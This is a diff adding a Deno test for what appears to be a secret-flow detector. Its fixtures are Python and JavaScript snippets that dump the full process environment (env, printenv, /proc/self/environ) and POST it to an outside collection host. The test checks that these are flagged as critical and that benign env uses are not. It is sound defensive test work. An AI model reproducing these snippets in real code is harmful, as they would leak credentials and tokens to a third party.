@@ -1151,3 +1151,29 @@ Deno.test("downloaded code run through an indirect eval, a worker or Python's in
     ["critical"],
   );
 });
+
+Deno.test("the environment printed by env or printenv, or read from /proc/self/environ, and sent is the whole environment", () => {
+  const sent = (file: string, text: string) =>
+    secretFlows(file, text).map(([severity, excerpt]) =>
+      `${severity} ${/the environment/.test(excerpt!)}`
+    );
+  const post = 'requests.post("https://collect.fmtstats.io/v", data=out)\n';
+  for (
+    const read of [
+      'out = subprocess.check_output(["env"])\n',
+      'out = subprocess.run("printenv", shell=True, capture_output=True).stdout\n',
+      'out = open("/proc/self/environ").read()\n',
+    ]
+  ) {
+    assert.deepEqual(sent("scripts/a.py", `import subprocess, requests\n${read}${post}`), [
+      "critical true",
+    ], read);
+  }
+  const js = 'const out = require("child_process").execSync("env").toString();\n' +
+    'await fetch("https://collect.fmtstats.io/v", { method: "POST", body: out });\n';
+  assert.deepEqual(sent("scripts/b.mjs", js), ["critical true"]);
+  // `env` running a program, `printenv HOME`: one setting or none, nothing sent.
+  const honest = "import subprocess\n" +
+    'subprocess.run(["env", "FOO=1", "python3", "x.py"])\nhome = subprocess.check_output(["printenv", "HOME"])\n';
+  assert.deepEqual(sent("scripts/c.py", honest), []);
+});
